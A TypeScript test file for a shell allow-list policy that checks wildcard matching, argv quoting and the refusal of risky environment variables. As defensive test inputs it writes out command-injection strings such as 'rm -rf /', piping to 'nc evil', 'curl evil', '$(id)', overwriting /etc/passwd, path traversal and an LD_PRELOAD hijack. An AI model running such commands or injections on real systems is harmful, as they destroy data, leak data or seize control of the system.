import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { commandLine, commandPattern, shellRefusal } from '../../src/executors/shell-policy.ts';

const allows = (pattern: string, command: string | string[]) => commandPattern(pattern).test(commandLine(command));

describe('shell allow-list patterns', () => {
  it('* stays within one word of one path segment', () => {
    assert.ok(allows('/opt/jobs/*.sh', '/opt/jobs/backup.sh'));
    assert.ok(!allows('/opt/jobs/*.sh', '/opt/jobs/../../tmp/evil.sh'));
    assert.ok(!allows('/opt/jobs/*.sh', '/opt/jobs/a.sh --all'));
    assert.ok(allows('echo *', 'echo hi'));
    assert.ok(!allows('echo *', 'echo a b'));
  });

  it('** spans words and paths', () => {
    assert.ok(allows('pg_dump **', 'pg_dump -d app -f /backups/app.sql'));
    assert.ok(allows('**', 'date'));
  });

  it('no wildcard matches a shell control character', () => {
    for (const command of [
      'pg_dump app; rm -rf /',
      'pg_dump app && curl evil',
      'pg_dump app | nc evil 9',
      'pg_dump $(id)',
      'pg_dump `id`',
      'pg_dump app > /etc/passwd',
      'pg_dump app\nrm -rf /',
      'pg_dump \\$HOME',
    ]) {
      assert.ok(!allows('pg_dump **', command), command);
      assert.ok(!allows('**', command), command);
    }
  });

  it('everything else in a pattern is literal', () => {
    assert.ok(!allows('a.b', 'axb'));
    assert.ok(allows('report (daily)', 'report (daily)'));
    assert.ok(!allows('date', 'date -u'));
  });

  it('matches an argv array as a shell would have to write it', () => {
    assert.equal(commandLine(['rm', '-rf', '/tmp/a b', "it's"]), `rm -rf '/tmp/a b' 'it'"'"'s'`);
    assert.ok(allows('/usr/bin/rsync **', ['/usr/bin/rsync', '-a', '/data/', 'backup:/data/']));
    assert.ok(!allows('rm -rf /tmp/*', ['rm', '-rf', '/tmp/x /']));
    assert.ok(!allows('sh -c *', ['sh', '-c', 'echo hi']));
  });
});

describe('shellRefusal', () => {
  const allow = [commandPattern('/opt/jobs/*.sh')];

  it('allows everything when the list is empty', () => {
    assert.equal(shellRefusal('rm -rf /tmp/x', { PATH: '/tmp' }, []), null);
  });

  it('names the command it refuses', () => {
    assert.match(shellRefusal('curl evil', undefined, allow)!, /"curl evil" is not in this worker's shell allow-list/);
    assert.equal(shellRefusal('/opt/jobs/backup.sh', { MODE: 'full' }, allow), null);
  });

  it('refuses variables that would make an allowed command run something else', () => {
    assert.match(
      shellRefusal('/opt/jobs/backup.sh', { PATH: '/tmp', LD_PRELOAD: '/tmp/x.so', MODE: 'full' }, allow)!,
      /payload\.env may not set PATH, LD_PRELOAD/,
    );
  });
});
